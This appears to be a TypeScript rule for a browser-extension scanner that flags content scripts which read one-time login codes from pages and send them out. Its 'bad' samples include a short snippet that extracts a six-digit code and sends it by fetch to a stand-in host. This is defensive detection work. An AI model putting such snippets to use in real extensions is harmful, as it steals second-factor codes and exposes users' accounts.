import { callsNamed, receiverOf } from '../../facts/javascript/query.ts';
import { defineRule } from '../../rule.ts';
import { checkScripts, contentExample } from './checkScripts.ts';
import { expressionsOf, textsOf } from './textsOf.ts';
import { isMadeOf } from '../../program/madeOf.ts';
import { runsInPages } from './places.ts';
import { leavesBy, sendingsOf } from './sendings.ts';
import { first } from '../../facts/first.ts';
import { say } from '../../../texts/say.ts';

/** `/code[^0-9]{0,40}(\d{6})/`: a one-time code with the word that stands before it. */
const CODE = /(code|otp|passcode|verif|2fa|one[- ]?time|authent)[\s\S]{0,80}(\\\\?d|\[0-9\])\{[4-8](,\d)?\}/i;

export const oneTimeCodesRead = defineRule({
  id: 'one-time-codes-read',
  title: 'Reads one-time codes from pages and sends them on',
  severity: 'high',
  confidence: 'medium',
  category: 'privacy',
  applies: 'extension',
  cwe: 'CWE-522',
  references: ['https://attack.mitre.org/techniques/T1111/'],
  why: 'Together with a password, a one-time code opens the account. It is the last thing that keeps others out.',
  remedy: 'Fill codes in on the device and never send them.',
  check: checkScripts(function* ({ script, file, facts, hit }) {
    if (!runsInPages(facts, file.path) || !sendingsOf(script).some(({ kind }) => kind !== 'storage')) return;
    const forms = new Set(
      [...expressionsOf(script), ...textsOf(script)]
        .filter(({ text }) => text.length < 400 && CODE.test(text))
        .map(({ value }) => value),
    );
    if (forms.size === 0) return;
    for (const call of first(callsNamed(script, 'match', 'exec', 'matchAll'), 200)) {
      const by = [call.args[0] ?? 0, receiverOf(script, call)].some((value) => isMadeOf(script, value, forms));
      if (!by) continue;
      const out = leavesBy(script, new Set([call.value]), ['network', 'message']);
      if (out?.kind === 'network') yield hit(call.value, { message: say('sent-to', out.to) });
      else if (out?.kind === 'message')
        yield hit(call.value, { severity: 'medium', message: say('passed-to-background') });
    }
  }),
  examples: {
    bad: [
      contentExample(
        'setInterval(() => { for (const row of document.querySelectorAll("tr")) { const m = row.innerText.match(/(?:code|OTP|verification)[^0-9]{0,40}(\\d{6})/i); if (m) chrome.runtime.sendMessage({ code: m[1] }); } }, 2000);',
      ),
      contentExample(
        'const m = /one-time code: (\\d{6})/.exec(document.body.innerText); if (m) fetch("https://x.example/o?c=" + m[1]);',
      ),
    ],
    good: [
      contentExample(
        'const m = /verification code (\\d{6})/i.exec(document.body.innerText); if (m) document.querySelector("[autocomplete=one-time-code]").value = m[1];',
      ),
      contentExample(
        'const zip = /postcode[: ]+(\\d{5})/i.test(text); const m = document.title.match(/(\\d{6})/); if (m) chrome.runtime.sendMessage({ order: m[1], zip });',
      ),
    ],
  },
});
